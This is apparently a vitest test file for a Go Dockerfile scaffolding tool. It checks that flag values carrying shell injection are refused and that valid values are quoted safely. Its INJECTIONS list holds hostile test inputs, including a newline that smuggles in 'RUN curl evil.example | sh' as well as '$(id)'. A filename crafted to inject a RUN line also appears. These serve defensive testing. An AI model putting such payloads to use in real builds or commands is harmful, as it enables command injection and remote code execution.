/**
 * Every value a user can type reaches the Dockerfile only after validation. A newline or a shell
 * metacharacter in any flag is refused (exit 2) before anything is rendered; values that are valid
 * but unusual are printed so that they cannot start an instruction or a shell command.
 */
import { describe, expect, it } from 'vitest';
import { parseDockerfile } from '../../src/dockerfile/index.js';
import type { ScaffoldArgs } from '../../src/scaffold/run.js';
import { ScaffoldError, shellWord, validateGoVersion, validatePorts } from '../../src/scaffold/validate.js';
import { commentSafe } from '../../src/scaffold/view.js';
import { copyExample, dockerfiles, generate, project } from './helpers.js';

const INJECTIONS = ['x\nRUN curl evil.example | sh', 'x\r\nUSER root', '$(id)', '`id`', "x' && id '", 'x" && id "', 'x && id', 'x; id', 'x|id', 'x > /etc/passwd'];

const hostile: Array<[string, (v: string) => Partial<ScaffoldArgs>]> = [
  ['--proxy', (v) => ({ proxy: `https://proxy.example.com/${v}` })],
  ['--sumdb', (v) => ({ sumdb: `sum.golang.org${v}` })],
  ['--private', (v) => ({ private: `git.example.com/${v}` })],
  ['--packages', (v) => ({ packages: [`curl${v}`] })],
  ['--port', (v) => ({ port: `8080${v}` })],
  ['--platforms', (v) => ({ platforms: [`linux/amd64${v}`] })],
  ['--version-var', (v) => ({ versionVar: `main.version${v}` })],
  ['--build-parallelism', (v) => ({ buildParallelism: `2${v}` })],
  ['--binary', (v) => ({ binary: `app${v}` })],
  ['--main', (v) => ({ main: `.${v}` })],
  ['--go-version', (v) => ({ goVersion: `1.23${v}` })],
  ['--builder', (v) => ({ builder: `bookworm${v}` })],
  ['--runtime', (v) => ({ runtime: `distroless${v}` })],
  ['--auth', (v) => ({ auth: `ssh${v}` })],
  ['--private-via', (v) => ({ privateVia: `proxy${v}` })],
];

describe('hostile values are refused before anything is rendered', () => {
  for (const [flag, make] of hostile) {
    it(flag, async () => {
      const dir = copyExample('private-deps');
      for (const value of INJECTIONS) {
        // A pipe is GOPROXY's own separator; the rest of that value still has to be refused.
        const flags = make(value);
        const attempt = generate(dir, flags);
        await expect(attempt, `${flag} ${JSON.stringify(value)}`).rejects.toBeInstanceOf(ScaffoldError);
      }
    });
  }

  it('an option-looking package name cannot become an apt-get or apk option', async () => {
    for (const builder of ['bookworm', 'alpine']) {
      await expect(generate(copyExample('hello'), { builder, packages: ['-oAPT::Get::AllowUnauthenticated=1'] })).rejects.toThrow(/--packages/);
      await expect(generate(copyExample('hello'), { builder, packages: ['--allow-untrusted'] })).rejects.toThrow(/--packages/);
    }
  });

  it('--main must be one of the detected main packages (no path escapes)', async () => {
    await expect(generate(copyExample('multi-cmd'), { main: '../hello' })).rejects.toThrow(/not a main package here; main packages: \.\/cmd\/api, \.\/cmd\/worker/);
  });

  it('--go-version may not be older than go.mod needs; a minor tag satisfies a patch go line', () => {
    expect(() => validateGoVersion('1.21', '1.22.3')).toThrow(/older than go.mod's `go 1.22.3`/);
    expect(() => validateGoVersion('1.22.1', '1.22.3')).toThrow(ScaffoldError);
    expect(validateGoVersion('1.22', '1.22.3')).toBe('1.22');
    expect(validateGoVersion('go1.24.1', '1.22.3')).toBe('1.24.1');
  });

  it('--sumdb off needs the explicit confirmation', async () => {
    await expect(generate(copyExample('hello'), { sumdb: 'off' })).rejects.toThrow(/--allow-sumdb-off/);
  });

  it('--sumdb takes a name (and URL), not a bare URL, which Go would not accept', async () => {
    await expect(generate(copyExample('hello'), { sumdb: 'https://sum.golang.google.cn' })).rejects.toThrow(/name, then URL/);
  });

  it('auth that logs in to git needs to know the host', async () => {
    await expect(generate(copyExample('hello'), { auth: 'ssh' })).rejects.toThrow(/give them with --private/);
    await expect(generate(copyExample('hello'), { auth: 'token', private: '*.corp.example.com' })).rejects.toThrow(/cannot tell which git host/);
    await expect(generate(copyExample('private-deps'), { auth: 'ssh', privateVia: 'proxy', proxy: 'https://athens.example.com' })).rejects.toThrow(
      /use --auth netrc/,
    );
  });

  it('cgo needs a runtime with the libc it was linked against, and no cross-compiling', async () => {
    await expect(generate(copyExample('cgo'), { runtime: 'scratch' })).rejects.toThrow(/cgo binary needs the C library.*main\.go imports "C"/);
    await expect(generate(copyExample('cgo'), { builder: 'alpine', runtime: 'distroless' })).rejects.toThrow(/--runtime alpine/);
    await expect(generate(copyExample('cgo'), { platforms: ['linux/arm64'] })).rejects.toThrow(/C cross-compiler/);
    await expect(generate(copyExample('hello'), { cgo: true, runtime: 'scratch' })).rejects.toThrow(/asked for with --cgo/);
  });
});

describe('valid values are printed safely', () => {
  it('ports: lists, none, and out-of-range numbers', () => {
    expect(validatePorts('8080, 9090,8080')).toEqual([8080, 9090]);
    expect(validatePorts('none')).toEqual([]);
    expect(() => validatePorts('0')).toThrow(ScaffoldError);
    expect(() => validatePorts('65536')).toThrow(ScaffoldError);
  });

  it('shell words in the header examples are quoted when they need it', () => {
    expect(shellWord('GOPROXY=https://goproxy.cn,direct')).toBe('GOPROXY=https://goproxy.cn,direct');
    expect(shellWord('GOPROXY=https://a|https://b')).toBe("'GOPROXY=https://a|https://b'");
    expect(shellWord("it's")).toBe("'it'\\''s'");
    expect(shellWord('$(id)')).toBe("'$(id)'");
  });

  it('a GOPROXY with | and a GOSUMDB with a space stay inside their quoted ARGs', async () => {
    const result = await generate(copyExample('hello'), { proxy: 'https://a.example.com|https://b.example.com,direct', sumdb: 'sum.golang.org https://sum.golang.google.cn' });
    const text = dockerfiles(result)[0]?.content ?? '';
    expect(text).toContain('ARG GOPROXY="https://a.example.com|https://b.example.com,direct"\n');
    expect(text).toContain('ARG GOSUMDB="sum.golang.org https://sum.golang.google.cn"\n');
    const doc = parseDockerfile(text);
    expect(doc.errors).toEqual([]);
    const args = doc.instructions.filter((i) => i.keyword === 'ARG').map((i) => doc.source.text.slice(i.range.start, i.range.end).split(/[ =]/)[1]);
    expect(args).toEqual(['GOPROXY', 'GOSUMDB', 'GOPRIVATE', 'GOFLAGS', 'VERSION']);
  });

  it('text taken from the disk (file names) cannot end a comment line', async () => {
    expect(commentSafe('a\nRUN x\u2028y')).toBe('a?RUN x?y');
    const dir = project({
      'go.mod': 'module example.com/m\n\ngo 1.23\n',
      'main.go': 'package main\n\nfunc main() {}\n',
      'c\nRUN touch pwned.go': 'package main\n\nimport "C"\n',
    });
    const result = await generate(dir, { runtime: 'debian-slim' });
    const text = dockerfiles(result)[0]?.content ?? '';
    expect(text).toContain('#   cgo: on, because c?RUN touch pwned.go imports "C".\n');
    expect(text).not.toMatch(/^RUN touch/m);
  });

  it('the module path is validated before it is printed', async () => {
    const dir = project({ 'go.mod': 'module "example.com/a b"\n\ngo 1.23\n', 'main.go': 'package main\n\nfunc main() {}\n' });
    await expect(generate(dir)).rejects.toThrow(/not a valid module path/);
  });
});

describe('warnings that do not stop the run', () => {
  it('go.sum absent: the module files are copied as go.mod go.sum*, present: plain go.sum', async () => {
    expect(dockerfiles(await generate(copyExample('hello')))[0]?.content).toContain('\nCOPY go.mod go.sum* ./\n');
    expect(dockerfiles(await generate(copyExample('multi-cmd'), { main: 'cmd/api' }))[0]?.content).toContain('\nCOPY go.mod go.sum ./\n');
  });

  it('--private that leaves some private-looking hosts of go.mod uncovered: names them and the value that covers them', async () => {
    const result = await generate(copyExample('private-deps'), { private: 'git.corp.example.com', auth: 'ssh' });
    expect(result.warnings).toContainEqual(
      expect.stringMatching(/^--private git\.corp\.example\.com does not cover go\.corp\.example\.com \(go\.corp\.example\.com\/libs\/log in go\.mod\).*--private git\.corp\.example\.com,go\.corp\.example\.com/),
    );
    for (const covering of ['git.corp.example.com,go.corp.example.com', '*.corp.example.com', 'git.corp.example.com/platform,go.corp.example.com/libs']) {
      const ok = await generate(copyExample('private-deps'), { private: covering, auth: 'ssh' });
      expect(ok.warnings.join('\n'), covering).not.toMatch(/does not cover/);
    }
  });

  it('--no-cgo on code that imports "C"', async () => {
    const result = await generate(copyExample('cgo'), { cgo: false });
    expect(result.warnings.join('\n')).toMatch(/--no-cgo: the build leaves out files that import "C" \(main\.go imports "C"\)/);
    expect(dockerfiles(result)[0]?.content).toContain('CGO_ENABLED=0 go build');
  });

  it('a listener on localhost', async () => {
    const dir = project({
      'go.mod': 'module example.com/m\n\ngo 1.23\n',
      'main.go': 'package main\n\nimport "net/http"\n\nfunc main() { http.ListenAndServe("127.0.0.1:8080", nil) }\n',
    });
    const result = await generate(dir);
    expect(result.warnings.join('\n')).toMatch(/listens on a loopback address/);
    expect(dockerfiles(result)[0]?.content).not.toContain('EXPOSE');
  });
});

describe('edge cases of the answers', () => {
  it('an unbalanced [ in a GOPRIVATE glob matches no host (no crash)', async () => {
    await expect(generate(copyExample('private-deps'), { private: 'git[.corp.example.com', auth: 'ssh' })).rejects.toThrow(/cannot tell which git host/);
  });

  it('a replace outside the context is fine when vendor/ holds the module', async () => {
    const dir = project({
      'go.mod': 'module example.com/m\n\ngo 1.23\n\nrequire example.com/lib v0.0.0\n\nreplace example.com/lib => ../lib\n',
      'vendor/modules.txt': '# example.com/lib v0.0.0 => ../lib\n## explicit\nexample.com/lib\n',
      'main.go': 'package main\n\nfunc main() {}\n',
    });
    const result = await generate(dir);
    expect(dockerfiles(result)[0]?.content).toContain('go build -mod=vendor');
  });
});
